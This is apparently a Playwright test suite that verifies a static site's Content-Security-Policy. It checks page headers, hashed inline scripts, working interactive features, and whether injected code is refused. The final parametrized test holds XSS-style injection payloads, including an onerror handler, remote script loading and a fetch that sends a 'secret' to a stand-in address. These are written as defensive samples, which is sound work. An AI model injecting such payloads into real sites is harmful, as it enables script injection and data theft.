"""The content security policy: every page keeps it, and it holds what it promises."""

import re

import pytest
from conftest import WIDE, chapters_with
from policy import HANDLER, INLINE, SOURCES, policy
from walk import pages_of

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
NOTE = """
    window.violations = [];
    document.addEventListener('securitypolicyviolation', event => window.violations.push(
        `${event.effectiveDirective} ${event.blockedURI} ${event.sample} ${event.lineNumber}`));
"""


@pytest.fixture
def page(browser):
    """A tab that notes what the policy refuses. Nothing of the policy is bypassed."""
    context = browser.new_context(viewport=WIDE)
    context.add_init_script(NOTE)
    page = context.new_page()
    page.set_default_timeout(60_000)
    yield page
    context.close()


def violations(page):
    return page.evaluate("window.violations")


def test_every_page_carries_a_policy_before_anything_it_speaks_of(site):
    pages = pages_of(site)
    assert len(pages) > 40
    for name in pages:
        text = (site / name).read_text(encoding="utf-8")
        (own,) = META.findall(text)
        assert "script-src 'self'" in own
        assert "unsafe-eval" not in own.replace("wasm-unsafe-eval", "")
        (scripts,) = re.findall(r"script-src ([^;]*)", own)
        assert "'unsafe-inline'" not in scripts
        before = text[: text.index("Content-Security-Policy")]
        assert not re.search(r"<(script|link|style|img)\b", before), name


def test_few_scripts_stand_within_pages_and_none_in_a_chapter(site):
    """A hash excuses a script for ever: each should be one that the theme cannot do without."""
    scripts, handlers = set(), set()
    for name in pages_of(site):
        text = (site / name).read_text(encoding="utf-8")
        scripts.update(INLINE.findall(text))
        handlers.update(HANDLER.findall(text))
    # Light or dark, twice; the focus on the search page; the words of folded boxes, in four pieces.
    assert len(scripts) <= 7, scripts
    assert handlers <= {"window.print()", "toggleFullScreen()"}


def test_only_what_the_template_brings_is_excused():
    template = "<script>a()</script><script src='x.js'></script><i onclick=\"b(&quot;c&quot;)\">"
    sources = policy(template)
    (scripts,) = re.findall(r"script-src ([^;]*)", sources)
    assert scripts.startswith(SOURCES["script-src"] + " 'sha256-")
    assert scripts.count("'sha256-") == 2
    assert scripts.count("'unsafe-hashes'") == 1
    assert "sha256" not in policy('<script type="application/json">{}</script><p title="onclick=">')
    assert policy("<script>a()</script>") != policy("<script>a() </script>")


def test_pages_on_a_disk_keep_their_policy(page, site):
    """On a server test_site.py goes over all pages, and the browser tells what it refuses."""
    broken = {}
    for name in [*pages_of(site)[:3], "index.html", "progress.html"]:
        page.goto((site / name).as_uri())
        page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
        page.wait_for_load_state("networkidle")
        if found := violations(page):
            broken[name] = found
    assert broken == {}


def test_what_answers_to_the_reader_works_under_the_policy(page, site, base_url):
    (clinic,) = chapters_with(site, 'class="clinic"')
    for name in chapters_with(site, 'class="quiz"'):
        page.goto(f"{base_url}/{name}")
        page.wait_for_selector("figure.explore-on", state="attached")
        figure = page.locator("figure.explore-on:visible:has(input[type=range])").first
        before = figure.locator(".explore-picture").get_attribute("src")
        slider = figure.locator("input[type=range]").first
        at_end = slider.input_value() == slider.get_attribute("max")
        slider.press("ArrowLeft" if at_end else "ArrowRight")
        page.wait_for_function(
            "([p, old]) => p.getAttribute('src') !== old && p.naturalWidth > 0",
            arg=[figure.locator(".explore-picture").element_handle(), before],
        )
        page.locator(".ask-answers button").first.click()
        assert page.locator(".ask-said").first.text_content()
        if name == clinic:
            page.locator(".clinic-case:visible .clinic-answers button").first.click()
            assert page.locator(".clinic-case:visible .clinic-said").text_content()
        assert violations(page) == [], name


def test_search_and_the_buttons_of_the_page_work_under_the_policy(page, base_url):
    page.goto(f"{base_url}/index.html")
    page.locator(".search-button-field:visible, .search-button:visible").first.click()
    page.locator("input[name=q]:visible").first.fill("momentum")
    page.keyboard.press("Enter")
    page.wait_for_url("**/search.html?q=momentum**")
    page.locator("#search-results li a").first.wait_for()
    page.wait_for_load_state("networkidle")
    assert violations(page) == []
    page.goto(f"{base_url}/chapters/01-the-neuron.html")
    page.locator(".btn-fullscreen-button").click()
    page.wait_for_function("() => document.fullscreenElement !== null")
    page.keyboard.press("Escape")
    page.evaluate("window.print = () => (window.printed = true)")
    page.locator(".dropdown-download-buttons > button").click()
    page.locator(".btn-download-pdf-button").click()
    assert page.evaluate("window.printed")
    page.locator("button.theme-switch-button:visible").first.click()
    assert page.evaluate("document.documentElement.dataset.mode") != "auto"
    assert violations(page) == []


SMUGGLED = {
    "a script in the page": "document.body.append(Object.assign("
    "document.createElement('script'), {textContent: 'window.smuggled = 1'}))",
    "a handler": "document.body.insertAdjacentHTML('beforeend', "
    '\'<img src="none.png" onerror="window.smuggled = 1">\')',
    "a script from elsewhere": "document.body.append(Object.assign("
    "document.createElement('script'), {src: 'http://192.0.2.1/x.js'}))",
    "a picture from elsewhere": "new Image().src = 'http://192.0.2.1/x.png'",
    "a letter home": "fetch('http://192.0.2.1/?secret').catch(() => {})",
    "a frame": "document.body.append(Object.assign("
    "document.createElement('iframe'), {src: 'http://192.0.2.1/'}))",
    "another base": "document.head.append(Object.assign("
    "document.createElement('base'), {href: 'http://192.0.2.1/'}))",
}


@pytest.mark.parametrize("kind", SMUGGLED)
def test_what_somebody_smuggles_in_is_refused_and_noted(page, base_url, kind):
    """Without this, the tests above could pass because nothing is ever refused."""
    page.goto(f"{base_url}/chapters/01-the-neuron.html")
    page.evaluate(SMUGGLED[kind])
    page.wait_for_function("() => window.violations.length > 0")
    assert page.evaluate("window.smuggled") is None
